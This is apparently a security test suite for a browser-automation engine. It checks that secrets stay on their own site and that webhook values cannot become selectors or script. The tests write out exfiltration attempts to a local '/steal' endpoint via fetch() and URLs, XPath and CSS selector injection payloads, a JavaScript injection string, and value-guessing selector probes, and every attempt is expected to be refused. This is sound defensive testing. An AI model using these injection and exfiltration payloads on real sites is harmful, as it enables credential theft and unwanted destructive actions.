// Secrets are bound to sites, and values are data, never code (docs/automation.md): every way a member could
// write a workflow that carries a secret off its site, or a webhook payload could turn into a selector or a
// script, tried against real pages. The bank is the test server at 127.0.0.1; "elsewhere" is the same server
// reached as localhost: another origin, so a value that reached it would have left the bank's site.
import { beforeEach, describe, expect, test } from 'vitest';
import { MASK } from './templates.ts';
import { type TestStep, useEngine } from './test/harness.ts';

const t = useEngine();
const SECRET = 'Hemligt-Lösen-42';
const secrets = { BANK: SECRET };
let stolen: string[];
/** The bank's site only. */
const bankOnly = () => ({ secrets, secretOrigins: { BANK: [t.server.origin] } });
const elsewhere = (path: string) => t.server.url(path).replace('127.0.0.1', 'localhost');

const BANK = `
  <form onsubmit="event.preventDefault(); post('login', { pw: document.getElementById('pw').value })">
    <label>Lösenord <input id="pw" type="password"></label>
    <label>Sök <input id="search" value=""></label>
    <button>Logga in</button>
  </form>
  <p id="echo"></p>
  <script>document.getElementById('pw').addEventListener('input', (e) => { document.getElementById('echo').textContent = 'Du skrev ' + e.target.value; });</script>`;

beforeEach(() => {
  stolen = [];
  t.server.page('/bank', BANK);
  t.server.handle('/steal', async (req, res, url) => {
    const chunks: Buffer[] = [];
    for await (const c of req) chunks.push(c as Buffer);
    stolen.push(decodeURIComponent(url.search) + Buffer.concat(chunks).toString('utf8'));
    res.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' });
    res.end('<!doctype html><p>ok</p><input id="field" name="field">');
  });
});

async function attempt(steps: TestStep[], opts = bankOnly()) {
  const used: { name: string; origin: string }[] = [];
  const result = await t.run(steps, { ...opts, onSecretUse: async (u) => (used.push(u), true) });
  const reported = JSON.stringify([result.starts, result.ends.map(({ screenshot: _s, ...e }) => e), result.outcome]);
  return { ...result, used, reported };
}

describe('a secret is typed only on its sites', () => {
  test('on its site it is typed, recorded as used there, and reported nowhere', async () => {
    const r = await attempt([
      { type: 'navigate', url: t.server.url('/bank') },
      { type: 'change', selectors: ['#pw'], value: '{{secret.BANK}}' },
      { type: 'click', selectors: ['text/Logga in'] },
    ]);
    expect(r.outcome.status).toBe('completed');
    await expect.poll(() => t.server.posts('login')).toEqual([{ pw: SECRET }]);
    expect(r.used).toEqual([{ name: 'BANK', origin: t.server.origin, stepId: 's2' }]);
    expect(r.reported).not.toContain(SECRET);
  });

  test('a field on another site is refused before anything is typed (secret_origin_denied)', async () => {
    const r = await attempt([
      { type: 'navigate', url: elsewhere('/steal') },
      { type: 'change', selectors: ['#field'], value: '{{secret.BANK}}' },
    ]);
    expect(r.outcome).toMatchObject({ status: 'failed', failedIndex: 1, errorType: 'secret_origin_denied' });
    expect(r.outcome.errorMessage).toContain(`may only be typed on ${t.server.origin}`);
    expect(await r.page.inputValue('#field')).toBe('');
    expect(r.used).toEqual([]);
  });

  test('a secret with no sites yet (a migrated one) is typed nowhere', async () => {
    const r = await attempt(
      [
        { type: 'navigate', url: t.server.url('/bank') },
        { type: 'change', selectors: ['#pw'], value: '{{secret.BANK}}' },
      ],
      { secrets, secretOrigins: { BANK: [] } },
    );
    expect(r.outcome).toMatchObject({ errorType: 'secret_origin_denied', errorMessage: expect.stringContaining('not linked to any site yet') });
    expect(await r.page.inputValue('#pw')).toBe('');
  });

  test("the bank's field inside a page of another site is refused: that page could steal the focus", async () => {
    t.server.page('/frame', `<iframe src="${t.server.url('/bank')}" width="600" height="300"></iframe>`);
    const r = await attempt([
      { type: 'navigate', url: elsewhere('/frame') },
      { type: 'change', frame: [0], selectors: ['#pw'], value: '{{secret.BANK}}' },
    ]);
    expect(r.outcome).toMatchObject({ status: 'failed', errorType: 'secret_origin_denied', errorMessage: expect.stringContaining('inside a page of') });
  });

  test('a secret in an address, a selector, an attribute name or a popup target fails the step before it acts (secret_use_denied)', async () => {
    const tries: TestStep[][] = [
      [{ type: 'navigate', url: `${elsewhere('/steal')}?p={{secret.BANK}}` }],
      [{ type: 'navigate', url: t.server.url('/bank') }, { type: 'click', selectors: ['xpath///button[@data-x="{{secret.BANK}}"]'] }],
      [{ type: 'navigate', url: t.server.url('/bank') }, { type: 'extract', selectors: ['#pw'], variable: 'x', attribute: '{{secret.BANK}}' }],
      [{ type: 'navigate', url: t.server.url('/bank') }, { type: 'click', selectors: ['text/Logga in'], target: `${elsewhere('/steal')}?{{secret.BANK}}` }],
    ];
    for (const steps of tries) {
      const r = await attempt(steps);
      expect(r.outcome).toMatchObject({ status: 'failed', failedIndex: steps.length - 1, errorType: 'secret_use_denied' });
      expect(r.reported).not.toContain(SECRET);
    }
    expect(stolen).toEqual([]);
  });
});

describe('what a page shows back of a secret stays in', () => {
  test('the field a secret was typed into is never read back, and any echo of it is masked before it becomes a variable', async () => {
    const read = await attempt([
      { type: 'navigate', url: t.server.url('/bank') },
      { type: 'change', selectors: ['#pw'], value: '{{secret.BANK}}' },
      { type: 'extract', selectors: ['#pw'], variable: 'pw', attribute: 'value' },
    ]);
    expect(read.outcome).toMatchObject({ status: 'failed', failedIndex: 2, errorType: 'secret_use_denied' });
    expect(read.outcome.variables.pw).toBeUndefined();

    const around = await attempt([
      { type: 'navigate', url: t.server.url('/bank') },
      { type: 'change', selectors: ['#pw'], value: '{{secret.BANK}}' },
      { type: 'extract', selectors: ['form'], variable: 'form' },
    ]);
    expect(around.outcome).toMatchObject({ errorType: 'secret_use_denied' });

    const echo = await attempt([
      { type: 'navigate', url: t.server.url('/bank') },
      { type: 'change', selectors: ['#pw'], value: '{{secret.BANK}}' },
      { type: 'extract', selectors: ['#echo'], variable: 'echo' },
      { type: 'navigate', url: `${elsewhere('/steal')}?e={{var.echo}}` },
    ]);
    expect(echo.outcome.status).toBe('completed');
    expect(echo.outcome.variables.echo).toBe(`Du skrev ${MASK}`);
    expect(stolen.join()).not.toContain(SECRET);
    expect(stolen.join()).toContain(`Du skrev ${MASK}`);
  });

  test("no condition's script runs on a site the workflow types secrets on, before or after typing", async () => {
    for (const before of [true, false]) {
      const r = await attempt([
        { type: 'navigate', url: t.server.url('/bank') },
        ...(before ? [] : [{ type: 'change', selectors: ['#pw'], value: '{{secret.BANK}}' } as TestStep]),
        { type: 'waitForExpression', expression: `fetch('${elsewhere('/steal')}?v=' + (document.getElementById('pw').value || 'armed')).then(() => true)` },
        ...(before ? [{ type: 'change', selectors: ['#pw'], value: '{{secret.BANK}}' } as TestStep] : []),
      ]);
      expect(r.outcome).toMatchObject({ status: 'failed', errorType: 'secret_use_denied' });
    }
    await new Promise((r) => setTimeout(r, 200));
    expect(stolen).toEqual([]);
  });

  test("where a secret was typed, a selector may not test a field's value (guessing it a character at a time)", async () => {
    t.server.page('/react', `<input id="pw" type="password"><script>document.getElementById('pw').addEventListener('input', (e) => e.target.setAttribute('value', e.target.value));</script><p>klar</p>`);
    for (const probe of [
      { type: 'waitForElement', selectors: [`input[value^="${SECRET[0]}"]`], timeout: 300 },
      { type: 'click', selectors: [`xpath///input[starts-with(@value, "${SECRET[0]}")]`], timeout: 300 },
      { type: 'waitForElement', selectors: ['#pw'], properties: { value: SECRET }, timeout: 300 },
    ] as TestStep[]) {
      const r = await attempt([
        { type: 'navigate', url: t.server.url('/react') },
        { type: 'change', selectors: ['#pw'], value: '{{secret.BANK}}' },
        probe,
      ]);
      expect(r.outcome).toMatchObject({ status: 'failed', failedIndex: 2, errorType: 'secret_use_denied' });
    }
  });
});

describe('values are data, never code', () => {
  const DELETE = `
    <ul><li><button data-name="anna">Visa anna</button></li></ul>
    <button id="delete-all" onclick="post('deleted', true)">Ta bort allt</button>`;

  test('a webhook payload in an XPath, CSS or aria selector is matched as text and never clicks anything else', async () => {
    t.server.page('/list', DELETE);
    const payloads: [string, string][] = [
      ['xpath///button[@data-name="{{input.name}}"]', 'nobody"] | //button[@id="delete-all"] | //x["'],
      ["xpath///button[@data-name='{{input.name}}']", "nobody'] | //button[@id='delete-all'] | //x['"],
      ['xpath///button[@data-name={{input.name}}]', '"x" or 1=1'],
      ['button[data-name="{{input.name}}"]', 'x"], #delete-all, [data-x="'],
      ['#{{input.name}}', 'x, #delete-all'],
      ['aria/{{input.name}}', 'Ta bort allt[role="button"]'],
    ];
    for (const [selector, name] of payloads) {
      const r = await attempt([{ type: 'navigate', url: t.server.url('/list') }, { type: 'click', selectors: [selector], timeout: 400 }], { ...bankOnly(), inputs: { name } } as never);
      expect(r.outcome.status, `${selector} with ${name}`).toBe('failed');
    }
    // The same selectors still find what the value names.
    const ok = await attempt([{ type: 'navigate', url: t.server.url('/list') }, { type: 'click', selectors: ['xpath///button[@data-name="{{input.name}}"]'] }], {
      ...bankOnly(),
      inputs: { name: 'anna' },
    } as never);
    expect(ok.outcome.status).toBe('completed');
    await new Promise((r) => setTimeout(r, 200));
    expect(t.server.posts('deleted')).toEqual([]);
  });

  test('a condition with a template is refused before it runs (a payload never becomes script)', async () => {
    t.server.page('/p', '<p>x</p>');
    const r = await attempt(
      [
        { type: 'navigate', url: t.server.url('/p') },
        { type: 'waitForExpression', expression: 'Math.max({{input.x}})' },
      ],
      { ...bankOnly(), inputs: { x: `1),fetch('${elsewhere('/steal')}?pwned'),(1` } } as never,
    );
    expect(r.outcome).toMatchObject({ status: 'failed', failedIndex: 1, errorType: 'definition_invalid' });
    await new Promise((r) => setTimeout(r, 200));
    expect(stolen).toEqual([]);
  });
});
